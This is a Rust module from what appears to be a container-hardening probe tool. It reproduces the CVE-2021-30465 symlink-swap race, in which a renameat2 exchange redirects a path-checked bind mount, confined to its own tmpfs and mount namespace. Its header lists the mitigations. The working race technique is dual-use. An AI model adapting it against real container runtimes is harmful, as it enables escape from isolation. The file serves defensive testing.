//! **E19 CVE-2021-30465 shape.** Inside a private tmpfs: a racer thread swaps a directory
//! `victim` and a symlink `link -> secret` with `renameat2(RENAME_EXCHANGE)` while the main thread
//! does what a path-based runtime does — check that `victim` is a directory, then bind-mount onto
//! the path `victim`. Every time the bind lands on `secret` the check was defeated: a runtime
//! mounting by path can be made to mount onto an attacker-chosen target. All in the probe's own
//! tmpfs and mount namespace. Stopped by: fd-based mount targets with safe path resolution (R:
//! O_PATH + /proc/self/fd, openat2 RESOLVE_IN_ROOT), capabilities (SYS_ADMIN for the demo).

use crate::state::cap;
use crate::{errno_name, sys, Control, Ctx, Outcome, Technique};
use std::sync::atomic::{AtomicU64, AtomicU8, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

pub const T: Technique = Technique {
    id: "mount-target-swap",
    eid: "E19",
    title: "CVE-2021-30465: symlink swap redirects a bind mount",
    layers: "R, C (SYS_ADMIN)",
    run,
};

const RUN: u8 = 0;
const PAUSE: u8 = 1;
const PAUSED: u8 = 2;
const STOP: u8 = 3;

fn unmount_all() {
    for p in ["victim", "link", "secret"] {
        for _ in 0..8 {
            if sys::umount(p).is_err() {
                break;
            }
        }
    }
}

fn run(ctx: &Ctx) -> Outcome {
    let scratch = match sys::Scratch::new(ctx.cfg.scratch.as_deref(), "swap", false) {
        Ok(s) => s,
        Err(e) => {
            return Outcome::inconclusive(format!("no writable scratch dir: {}", errno_name(e)))
        }
    };
    if let Err(e) = sys::private_mount_ns() {
        return ctx.blocked_cap(
            e,
            cap::SYS_ADMIN,
            Control::Unshare(libc::CLONE_NEWNS),
            "unshare(mount ns)",
        );
    }
    if let Err(e) = sys::mount("tmpfs", &scratch.path, "tmpfs", 0, Some("size=256k")) {
        return ctx.blocked_cap(e, cap::SYS_ADMIN, Control::Mount, "mount tmpfs");
    }
    if std::env::set_current_dir(&scratch.path).is_err() {
        return Outcome::inconclusive("chdir scratch");
    }
    let setup = std::fs::create_dir("src")
        .and_then(|_| std::fs::write("src/marker", "bind source"))
        .and_then(|_| std::fs::create_dir("victim"))
        .and_then(|_| std::fs::create_dir("secret"))
        .and_then(|_| std::os::unix::fs::symlink("secret", "link"));
    if let Err(e) = setup {
        return Outcome::inconclusive(format!("setup: {e}"));
    }
    let state = Arc::new(AtomicU8::new(RUN));
    let st2 = state.clone();
    let swaps = Arc::new(AtomicU64::new(0));
    let sw2 = swaps.clone();
    let racer = std::thread::spawn(move || {
        let a = sys::cstr("victim");
        let b = sys::cstr("link");
        loop {
            match st2.load(Ordering::Acquire) {
                STOP => break,
                PAUSE | PAUSED => {
                    st2.store(PAUSED, Ordering::Release);
                    std::thread::yield_now();
                    continue;
                }
                _ => {}
            }
            // SAFETY: renameat2 on two names in our own scratch tmpfs.
            unsafe {
                libc::renameat2(
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            sw2.fetch_add(1, Ordering::Relaxed);
        }
    });
    let deadline = Instant::now() + Duration::from_secs(6);
    let (mut tries, mut redirected, mut mounted) = (0u32, 0u32, 0u32);
    let mut mount_err = None;
    // Stop once the race has been won a few times: one win is the proof.
    while tries < 20_000 && redirected < 5 && Instant::now() < deadline {
        let is_dir = sys::lstat("victim")
            .map(|s| s.st_mode & libc::S_IFMT == libc::S_IFDIR)
            .unwrap_or(false);
        if !is_dir {
            continue; // the check caught the symlink this time
        }
        tries += 1;
        // The gap between a runtime's check and its mount (path joins, logging, other work): on
        // two busy cores, give the racer a chance to run in it, as a loaded host would.
        std::thread::yield_now();
        match sys::mount("src", "victim", "", libc::MS_BIND, None) {
            Ok(()) => {
                mounted += 1;
                state.store(PAUSE, Ordering::Release);
                while state.load(Ordering::Acquire) != PAUSED {
                    std::thread::yield_now();
                }
                if std::path::Path::new("secret/marker").exists() {
                    redirected += 1;
                }
                unmount_all();
                let seen = swaps.load(Ordering::Relaxed);
                state.store(RUN, Ordering::Release);
                // Wait for the racer to be swapping again.
                while swaps.load(Ordering::Relaxed) == seen && Instant::now() < deadline {
                    std::thread::yield_now();
                }
            }
            Err(e) => {
                mount_err = Some(e);
                break;
            }
        }
    }
    state.store(STOP, Ordering::Release);
    let _ = racer.join();
    unmount_all();
    let _ = std::env::set_current_dir("/");
    let _ = sys::umount(&scratch.path);
    if let Some(e) = mount_err {
        if mounted == 0 {
            return ctx.blocked_cap(e, cap::SYS_ADMIN, Control::Mount, "bind mount");
        }
    }
    if redirected > 0 {
        Outcome::exposed(format!(
            "a path-based bind mount checked as a directory landed on the symlink target {redirected} of {tries} times"
        ))
    } else {
        Outcome::inconclusive(format!("race not won in {tries} tries ({mounted} mounts)"))
    }
}
